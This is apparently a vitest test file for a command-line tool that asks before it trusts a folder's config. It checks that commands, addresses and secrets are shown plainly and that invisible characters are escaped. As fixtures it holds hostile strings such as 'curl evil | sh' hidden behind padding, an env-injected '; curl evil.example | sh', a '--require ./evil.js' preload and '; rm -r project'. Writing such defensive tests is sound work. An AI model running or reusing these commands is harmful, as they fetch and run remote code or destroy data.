import { chmod, mkdir, mkdtemp, readFile, rm, stat, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PassThrough } from "node:stream";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import type { LoadedConfig } from "../../entries/hub.ts";
import { COMMANDS } from "../arguments/command-table.ts";
import { parseOptions } from "../arguments/parse-options.ts";
import { Terminal } from "../terminal/terminal.ts";
import { openConfig } from "./open-config.ts";

const { options: LIST_OPTIONS } = COMMANDS.find(({ name }) => name === "list") ?? { options: [] };
const NAME = "operations.config.json";

let folder: string;

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), "operations-config-"));
  vi.spyOn(process, "cwd").mockReturnValue(folder);
});
afterEach(async () => {
  vi.restoreAllMocks();
  await rm(folder, { recursive: true, force: true });
});

/** For a person who ends the input (Ctrl-D). */
const END = "end of input";

interface Person {
  /** Answers each question in turn. */
  readonly answers?: readonly string[];
  readonly isThere?: boolean;
  readonly args?: readonly string[];
  readonly state?: string;
  readonly isOnlyRead?: boolean;
  /** Runs while the question is open, before it is answered. */
  readonly meanwhile?: () => Promise<void>;
}

interface Opened {
  readonly loaded: LoadedConfig | undefined;
  readonly error: (Error & { readonly code?: string }) | undefined;
  readonly screen: string;
}

async function open(person: Person = {}): Promise<Opened> {
  const { isThere = true, args = [], state = join(folder, "state") } = person;
  const answers = [...(person.answers ?? [])];
  const stdin = Object.assign(new PassThrough(), { isTTY: isThere });
  const stderr = Object.assign(new PassThrough(), { isTTY: isThere, columns: 80 });
  let screen = "";
  stderr.on("data", (chunk) => {
    screen += String(chunk);
    const answer = screen.endsWith("[y/N] ") ? answers.shift() : undefined;
    if (answer === END) stdin.end();
    else if (answer !== undefined)
      void (person.meanwhile?.() ?? Promise.resolve()).then(() => stdin.write(`${answer}\n`));
  });
  const terminal = new Terminal({ stdin, stdout: new PassThrough(), stderr }, { TERM: "dumb", XDG_STATE_HOME: state });
  const options = parseOptions([...args], LIST_OPTIONS, { keepUnknown: false });
  let [loaded, error]: [Opened["loaded"], Opened["error"]] = [undefined, undefined];
  try {
    loaded = await openConfig({ options, terminal, isOnlyRead: person.isOnlyRead });
  } catch (thrown) {
    error = thrown as Error;
  }
  return { loaded, error, screen };
}

async function writeConfig(config: object, name = NAME): Promise<void> {
  await writeFile(join(folder, name), JSON.stringify(config));
}

describe("when the config of the folder is new to its user", () => {
  it("asks once, and again after a change", async () => {
    await writeConfig({ name: "one" });
    const first = await open({ answers: ["y"] });
    expect(first.loaded?.config.name).toBe("one");
    expect(first.screen).toContain(`The config of this folder is new to you`);
    expect(first.screen).toContain(join(folder, NAME));
    expect(await open()).toMatchObject({ loaded: { config: { name: "one" } }, screen: "" });
    await writeConfig({ name: "two" });
    const changed = await open({ answers: ["yes"] });
    expect(changed.loaded?.config.name).toBe("two");
    expect(changed.screen).toContain("has changed since you last ran it");
    expect((await open()).screen).toBe("");
  });

  it("shows programs, modules and addresses, and neither secrets nor control characters", async () => {
    vi.stubEnv("TEST_TOKEN", "very-secret-token");
    await writeConfig({
      mcpServers: {
        files: { command: "npx", args: ["server", "two words", "${TEST_TOKEN}", "\u001b[2J"] },
        off: { command: "unused", disabled: true },
        far: { url: "https://user:pass@mcp.example/path?key=1" },
      },
      openapi: { near: { document: "file.json" } },
      local: { folders: ["operations"], modules: ["own.ts"] },
      remotes: { bus: { type: "nats", servers: ["nats://a.example:4222"] } },
      sources: { mine: { use: "./source.ts" } },
    });
    const { screen } = await open({ answers: ["n"] });
    vi.unstubAllEnvs();
    expect(screen.split("\n").slice(2, -1)).toEqual([
      '    starts npx server "two words" ${TEST_TOKEN} \\u001b[2J',
      "    imports the modules in operations",
      "    imports own.ts",
      "    imports ./source.ts",
      "    connects to https://mcp.example/path?key=1",
      "    connects to the servers that file.json names",
      "    connects to nats://a.example:4222",
    ]);
  });

  it("shows the variables and folder of a program, and all of an address with its headers", async () => {
    vi.stubEnv("TEST_TOKEN", "very-secret-token");
    const headers = { Authorization: "Bearer ${TEST_TOKEN}", "X-Key": "key ${KEY}", "X-Own": "a b" };
    await writeConfig({
      mcpServers: {
        one: {
          command: "node",
          args: ["x.js"],
          env: { NODE_OPTIONS: "--require ./evil.js", A: "${KEY}" },
          cwd: "/tmp",
        },
        far: { url: "https://shared.example/someone/else", headers },
      },
      openapi: { api: { document: "https://doc.example/a.json?v=2", baseUrl: "http://me:word@b.example/v1", headers } },
      remotes: { bus: { type: "nats", servers: ["me:word@c.example:4222", "d.example:4222"] } },
    });
    await writeFile(join(folder, "operations.env"), "KEY=key-of-the-person\n");
    const shown = 'Authorization="Bearer ${TEST_TOKEN}" X-Key="key <from operations.env>" X-Own="a b"';
    const { screen } = await open({ answers: ["n"] });
    vi.unstubAllEnvs();
    const whole = screen
      .replaceAll(/\n {6}/g, "")
      .split("\n")
      .slice(2, -2);
    expect(whole).toEqual([
      '    starts NODE_OPTIONS="--require ./evil.js" A="<from operations.env>" node x.js (in /tmp)',
      `    connects to https://shared.example/someone/else with ${shown}`,
      "    connects to https://doc.example/a.json?v=2",
      `    connects to http://b.example/v1 with ${shown}`,
      "    connects to c.example:4222",
      "    connects to d.example:4222",
    ]);
  });

  it("shows everything that the config connects to, and what it sends there of the person's own", async () => {
    vi.stubEnv("TEST_TOKEN", "very-secret-token");
    const own = "${TEST_TOKEN}";
    const headers = { Authorization: `Bearer ${own}` };
    await writeConfig({
      openapi: {
        file: {
          document: "a.json",
          credentials: { k: own, basic: { username: "u", password: own }, other: "written here" },
        },
        far: { document: "https://doc.example/b.json", headers },
        token: { document: "c.json", baseUrl: "https://c.example", auth: { type: "bearer", token: own } },
        client: {
          document: "d.json",
          baseUrl: "https://d.example",
          credentials: { oauth: { clientId: "me", clientSecret: own, tokenUrl: "https://evil.example/token" } },
        },
        login: {
          document: "e.json",
          baseUrl: "https://e.example",
          oauth: { issuer: "https://i.example", clientSecret: own },
        },
        off: { document: "f.json", disabled: true, auth: { type: "bearer", token: own } },
      },
      remotes: { hub: { type: "hub", url: "wss://hub.example/ws", token: own, offer: ["files", "shop.*"] } },
      approvals: { webhook: { url: "https://hook.example/asked", secret: "0".repeat(32) } },
      rateLimits: { redis: "redis://:word@counts.example", rules: { a: { calls: 1, per: "day" } } },
      vault: { redis: "redis://vault.example" },
      serve: { jwt: { issuer: "https://people.example", audience: "hub" } },
    });
    const { screen } = await open({ answers: ["n"] });
    vi.unstubAllEnvs();
    const whole = screen
      .replaceAll(/\n {6}/g, "")
      .split("\n")
      .slice(2, -2);
    expect(whole.map((line) => line.trim())).toEqual(
      [
        'the servers that a.json names with k=${TEST_TOKEN} basic=${TEST_TOKEN} other="<from this config>"',
        "https://doc.example/b.json",
        'the servers that https://doc.example/b.json names with Authorization="Bearer ${TEST_TOKEN}"',
        "https://c.example with token=${TEST_TOKEN}",
        "https://d.example",
        "https://evil.example/token with clientSecret=${TEST_TOKEN}",
        "https://e.example",
        "https://i.example with clientSecret=${TEST_TOKEN}",
        "wss://hub.example/ws with token=${TEST_TOKEN}, and lets it call files shop.*",
        "https://hook.example/asked",
        "https://people.example",
        "redis://vault.example",
        "redis://counts.example",
      ].map((what) => `connects to ${what}`),
    );
  });

  it("shows every command whole, in lines that fit and that no command can imitate", async () => {
    const hidden = `echo this is a harmless looking long prefix to hide the rest${" ".repeat(200)}; curl evil | sh`;
    const servers = Array.from({ length: 12 }, (_, n) => [`s${n}`, { command: "sh", args: ["-c", `${hidden} ${n}`] }]);
    await writeConfig({ mcpServers: Object.fromEntries(servers) as object });
    const { screen } = await open({ answers: ["n"] });
    const lines = screen.split("\n");
    const shown = lines.slice(2, -2);
    for (const line of shown) expect(line).toMatch(/^ {4}starts |^ {6}/);
    expect(Math.max(...shown.map((line) => line.length))).toBeLessThanOrEqual(80);
    const whole = shown.map((line) => line.slice(line.startsWith("      ") ? 6 : 4)).join("");
    for (const [, { args }] of servers as Array<[string, { args: string[] }]>) expect(whole).toContain(args[1]);
    expect(lines.slice(-2)).toEqual(["    12 in all: they begin above", expect.stringContaining("Run it")]);
  });

  it.each([
    ["a right-to-left override", "\u202egnp.x", "\\u202egnp.x"],
    ["no width", "a\u200bb\u00adc", "a\\u200bb\\u00adc"],
    ["a line of its own", "a\nb\u2028c", "a\\nb\\u2028c"],
    ["a space that is none", "a\u00a0b", "a\\u00a0b"],
    ["a tag", "a\u{e0041}", "a\\u{e0041}"],
    ["two spaces", "a  b", "a  b"],
    ["an 8-bit control", "a\u009b2J", "a\\u009b2J"],
  ])("shows a character with %s as what it is", async (_what, argument, shown) => {
    await writeConfig({ mcpServers: { one: { command: "run", args: [argument] } } });
    expect((await open({ answers: ["n"] })).screen).toContain(shown);
  });

  it("shows the part of a command that comes from operations.env, and asks again when that changes", async () => {
    await writeConfig({
      mcpServers: { one: { command: "sh", args: ["-c", "echo harmless ${MORE}"], env: { A: "${SAME}" } } },
    });
    const rest = "; curl evil.example | sh";
    await writeFile(join(folder, "operations.env"), `MORE="${rest}"\nSAME="echo harmless"\n`);
    const asked = await open({ answers: ["y"] });
    expect(asked.screen.replaceAll(/\n {6}/g, "")).toContain(`sh -c "echo harmless ${rest}"`);
    expect((await open()).screen).toBe("");
    await writeFile(join(folder, "operations.env"), 'MORE="; rm -r project"\nSAME="echo harmless"\n');
    const { screen } = await open({ answers: ["n"] });
    expect(screen).toContain("has changed since you last ran it");
    expect(screen).toContain("; rm -r project");
  });

  it("says that the input has ended, which is no answer", async () => {
    await writeConfig({});
    const { error } = await open({ answers: [END] });
    expect(error).toMatchObject({ code: "ACCESS_DENIED", message: expect.stringContaining("input ended") as string });
    expect(error?.message).not.toContain("you said no");
  });

  it("asks nothing for a command that only reads the config, unless reading it runs it", async () => {
    await writeConfig({ name: "one" });
    expect(await open({ isOnlyRead: true })).toMatchObject({ loaded: { config: { name: "one" } }, screen: "" });
    // The next command that runs it still asks.
    expect((await open({ answers: ["n"] })).screen).toContain("is new to you");
    await rm(join(folder, NAME));
    await writeFile(join(folder, "operations.config.mjs"), 'throw new Error("it ran");');
    expect((await open({ isOnlyRead: true, answers: ["n"] })).screen).toContain("is a program");
  });

  it.each(["n", "", "yess"])("treats %j as a no, and runs nothing", async (answer) => {
    await writeFile(join(folder, "operations.config.mjs"), 'throw new Error("it ran");');
    const { error, screen } = await open({ answers: [answer] });
    expect(screen).toContain("is a program: it runs as soon as it is read");
    expect(error).toMatchObject({ code: "ACCESS_DENIED", message: expect.stringContaining("you said no") as string });
    expect((await open({ answers: ["n"] })).screen).toContain("is new to you");
  });

  it("loads a module only after a yes", async () => {
    await writeFile(join(folder, "operations.config.mjs"), 'export default { name: "program" };');
    expect((await open({ answers: ["y"] })).loaded?.config.name).toBe("program");
    expect(await open()).toMatchObject({ loaded: { config: { name: "program" } }, screen: "" });
  });

  it("runs nothing if the file changes while the question is open", async () => {
    await writeConfig({ name: "shown" });
    const { error } = await open({ answers: ["y"], meanwhile: () => writeConfig({ name: "swapped" }) });
    expect(error).toMatchObject({ message: expect.stringContaining("changed while the question was open") as string });
  });

  it("reports mistakes in a config without a question", async () => {
    await writeConfig({ nam: 1 });
    const { error, screen } = await open();
    expect([error?.name, screen]).toEqual(["ConfigError", ""]);
  });
});

describe("no question is asked", () => {
  it.each([
    ["the command line names the config", { args: ["--config", NAME] }],
    ["the command line says yes", { args: ["--yes"] }],
    ["there is no terminal", { isThere: false }],
  ])("when %s", async (_when, person: Person) => {
    await writeConfig({ name: "one" });
    expect(await open(person)).toMatchObject({ loaded: { config: { name: "one" } }, screen: "" });
    await expect(stat(join(folder, "state"))).rejects.toThrow("ENOENT");
  });
});

describe("the answers of a user", () => {
  it("are in a file and a folder that only the user can read", async () => {
    await writeConfig({});
    await mkdir(join(folder, "state", "operations"), { recursive: true, mode: 0o755 });
    await open({ answers: ["y"] });
    const stored = join(folder, "state", "operations", "configs.json");
    expect((await stat(stored)).mode & 0o777).toBe(0o600);
    expect((await stat(join(folder, "state", "operations"))).mode & 0o777).toBe(0o700);
    expect(JSON.parse(await readFile(stored, "utf8"))).toEqual({
      [join(folder, NAME)]: expect.stringMatching(/^[0-9a-f]{64}$/) as string,
    });
  });

  it.each([
    ["not JSON", true],
    ["null", true],
    ["", true],
    ["[]", false],
    ['{"a":1}', false],
  ])("are asked for again if the file holds %j", async (text, isDamaged) => {
    await writeConfig({ name: "one" });
    const stored = join(folder, "state", "operations", "configs.json");
    await mkdir(join(folder, "state", "operations"), { recursive: true });
    await writeFile(stored, text);
    await chmod(stored, 0o600);
    const { loaded, screen } = await open({ answers: ["y"] });
    expect(loaded?.config.name).toBe("one");
    expect(screen.includes("configs.json can't be read, so every config is new")).toBe(isDamaged);
    expect((await open()).screen).toBe("");
  });

  it("are lost, with a note, if they cannot be written", async () => {
    await writeConfig({ name: "one" });
    await writeFile(join(folder, "no-folder"), "");
    const { loaded, screen } = await open({ answers: ["y"], state: join(folder, "no-folder") });
    expect(loaded?.config.name).toBe("one");
    expect(screen).toMatch(/The answer can't be kept, so the next command asks again: (?:ENOTDIR|EEXIST)/);
  });
});
